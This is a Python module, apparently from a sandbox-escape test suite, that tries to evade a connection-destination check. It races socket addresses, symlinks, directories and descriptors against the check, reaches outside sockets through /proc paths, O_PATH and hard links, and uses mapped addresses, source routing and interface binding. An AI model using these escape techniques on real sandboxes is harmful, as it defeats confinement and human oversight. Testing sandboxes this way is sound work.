"""Ways round a check of where a connection goes: change it afterwards, name it in another way."""

import ctypes
import os
import socket
import struct
import threading
import time

from escape_base import (
    Stopped,
    answer_knock,
    attempt,
    exchange,
    libc,
    present,
    reach,
    secret_in,
)
from escape_services import STREAM, UNIX, unix

RACE_SECONDS = 0.3  # some thousand rounds


def outside(host):
    return present(host, "unix")["elsewhere"]


def own_server(host, name):
    """A server of our own in the granted directory that answers nothing of interest."""
    path = os.path.join(host.project, name)
    server = socket.socket(UNIX, STREAM)
    server.bind(path)
    server.listen(64)

    def serve():
        while True:
            try:
                server.accept()[0].close()
            except OSError:
                return

    threading.Thread(target=serve, daemon=True).start()
    return path


def unix_name(path):
    return struct.pack("=H", UNIX) + path.encode().ljust(108, b"\0")


def ipv4_name(address, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack(
        "!H4s8x", port, socket.inet_aton(address)
    )


def connected(host, sock, name):
    """Connect to whatever `name`, a buffer, holds at each moment; the secret if it answered."""
    sock.settimeout(None)
    if libc.connect(sock.fileno(), name, len(name)) == -1:
        return None
    try:
        return exchange(sock, host)
    except (OSError, Stopped):
        return None


def race(change, attack):
    """Have `change` run in another thread while `attack` is tried again and again."""
    ended = threading.Event()

    def run():
        while not ended.is_set():
            change()

    thread = threading.Thread(target=run)
    thread.start()
    try:
        deadline = time.monotonic() + RACE_SECONDS
        while time.monotonic() < deadline:
            if got := attack():
                return got
    finally:
        ended.set()
        thread.join()
    raise Stopped("no round got anything")


def race_names(host, harmless, wanted, family):
    """One buffer, which holds the one name and the other in turns."""
    buffer = (ctypes.c_char * len(wanted)).from_buffer(bytearray(wanted))

    def change():
        ctypes.memmove(buffer, harmless, len(harmless))
        ctypes.memmove(buffer, wanted, len(wanted))

    def attack():
        with socket.socket(family, STREAM) as sock:
            return connected(host, sock, buffer)

    return race(change, attack)


@attempt("a TCP address that changes while it is connected to")
def changing_address(host):
    harmless = ipv4_name("127.0.0.1", host.proxy_port)
    return race_names(host, harmless, ipv4_name("127.0.0.1", host.tcp), socket.AF_INET)


@attempt("a TCP address that changes to the proxy's port elsewhere")
def changing_to_other_address(host):
    harmless = ipv4_name("127.0.0.1", host.proxy_port)
    wanted = ipv4_name(host.other_loopback, host.proxy_port)
    return race_names(host, harmless, wanted, socket.AF_INET)


@attempt("a socket's path that changes while it is connected to")
def changing_path(host):
    own = own_server(host, "race-path")
    return race_names(host, unix_name(own), unix_name(outside(host)), UNIX)


@attempt("a symlink that changes while it is connected to")
def changing_symlink(host):
    own, link = own_server(host, "race-link"), os.path.join(host.project, "race-link-now")
    turns = [own, outside(host)]

    def change():
        os.symlink(turns[0], link + ".new")
        os.rename(link + ".new", link)
        turns.reverse()

    def attack():
        with socket.socket(UNIX, STREAM) as sock:
            return connected(host, sock, unix_name(link))

    return race(change, attack)


@attempt("a directory that changes while a socket in it is connected to")
def changing_directory(host):
    """The granted directory's own name and a link to the outside swap places."""
    inner, link = (os.path.join(host.project, name) for name in ("race-inner", "race-outer"))
    os.mkdir(inner)
    place, name = os.path.split(outside(host))
    own_server(host, os.path.join("race-inner", name))
    os.symlink(place, link)
    spare = os.path.join(host.project, "race-spare")

    def change():
        os.rename(inner, spare)
        os.rename(link, inner)
        os.rename(inner, link)
        os.rename(spare, inner)

    def attack():
        with socket.socket(UNIX, STREAM) as sock:
            return connected(host, sock, unix_name(os.path.join(inner, name)))

    return race(change, attack)


@attempt("a descriptor that changes while it is connected")
def changing_descriptor(host):
    """The descriptor is a TCP socket during the check, and a unix socket at its use."""
    name = unix_name(outside(host))
    spare = socket.socket(socket.AF_INET, STREAM)
    shared = socket.socket(socket.AF_INET, STREAM)
    sockets = [socket.socket(UNIX, STREAM), spare]

    def change():
        for sock in sockets:
            os.dup2(sock.fileno(), shared.fileno())

    def attack():
        return connected(host, shared.dup(), name) or connected(
            host, socket.socket(fileno=os.dup(shared.fileno())), name
        )

    return race(change, attack)


@attempt("a socket by /proc/self/root")
def by_root(host):
    return unix(host, f"/proc/self/root{outside(host)}", STREAM)


@attempt("a socket by a descriptor that names its place")
def by_descriptor(host):
    """O_PATH opens what may not be opened, and /proc/self/fd leads there."""
    place, name = os.path.split(outside(host))
    held = os.open(place, os.O_PATH | os.O_DIRECTORY)
    return unix(host, f"/proc/{os.getpid()}/fd/{held}/{name}", STREAM)


@attempt("a socket by a working directory that may not be entered")
def by_working_directory(host):
    place, name = os.path.split(outside(host))
    os.chdir(place)
    return unix(host, name, STREAM)


@attempt("a hard link to a socket outside")
def hard_link(host):
    link = os.path.join(host.project, "linked-socket")
    os.link(outside(host), link)
    return unix(host, link, STREAM)


@attempt("a socket moved into a granted directory")
def moved(host):
    link = os.path.join(host.project, "moved-socket")
    os.rename(present(host, "unix")["movable"], link)
    return unix(host, link, STREAM)


def datagram(host, sock):
    with sock:
        sock.sendto(host.tag.encode(), present(host, "unix")["datagram"])
        sock.settimeout(0.1)
        try:
            return secret_in(sock.recv(4096), host)
        except OSError:
            return "sent; the answer did not come"


@attempt("a datagram to a path by a socket of a pair")
def datagram_by_pair(host):
    return datagram(host, socket.socketpair(UNIX, socket.SOCK_DGRAM)[0])


@attempt("a datagram to a path by a raw unix socket")
def datagram_by_raw(host):
    return datagram(host, socket.socket(UNIX, socket.SOCK_RAW))


@attempt("TCP to the proxy's port number at a mapped address")
def mapped_address(host):
    address = f"::ffff:{host.other_loopback}"
    return reach(socket.AF_INET6, STREAM, (address, host.proxy_port), host)


@attempt("TCP by listening where a connection had been, called from outside")
def listen_where_connected(host):
    """connect takes a port without a bind; a disconnected socket may keep it."""
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.connect(("127.0.0.1", host.proxy_port))
        libc.connect(sock.fileno(), bytes(16), 16)
        sock.listen()
        return answer_knock(host, sock)


@attempt("a source route, for packets to the proxy that go elsewhere first")
def source_route(host):
    """The option of every packet: go to `address` and from there to where the header says."""
    option = bytes([131, 7, 4]) + socket.inet_aton(host.address) + b"\0"
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        return "the option is set"


@attempt("an interface, for packets to the proxy that leave by it")
def other_interface(_host):
    name = next(name for _, name in socket.if_nameindex() if name != "lo")
    with socket.socket(socket.AF_INET, STREAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode())
        return f"the socket is bound to {name}"
